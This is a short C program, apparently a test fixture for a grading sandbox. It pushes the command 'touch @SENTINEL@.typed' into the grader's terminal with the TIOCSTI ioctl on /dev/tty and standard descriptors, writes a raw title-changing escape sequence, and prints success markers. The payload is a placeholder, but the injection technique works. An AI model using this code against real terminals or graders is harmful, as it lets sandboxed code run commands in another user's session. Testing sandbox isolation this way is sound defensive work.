/* Attack 1: type a command into the grader's terminal (TIOCSTI on
 * /dev/tty and on every descriptor it has), and write raw escapes. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static int
push(int fd, const char *cmd)
{
	for (; *cmd != '\0'; cmd++)
		if (ioctl(fd, TIOCSTI, cmd) < 0)
			return -1;
	return 0;
}

int
main(void)
{
	const char *cmd = "touch @SENTINEL@.typed\n";
	int fd = open("/dev/tty", O_RDWR), i;

	if (fd >= 0 && push(fd, cmd) == 0)
		fprintf(stderr, "ATTACK-OK tty\n");
	if (fd >= 0)
		dprintf(fd, "\033]0;pwned\007");
	for (i = 0; i < 3; i++)
		if (push(i, cmd) == 0)
			fprintf(stderr, "ATTACK-OK fd %d\n", i);
	fprintf(stderr, "ATTACK-RAN @TOKEN@\n");
	return 1;
}
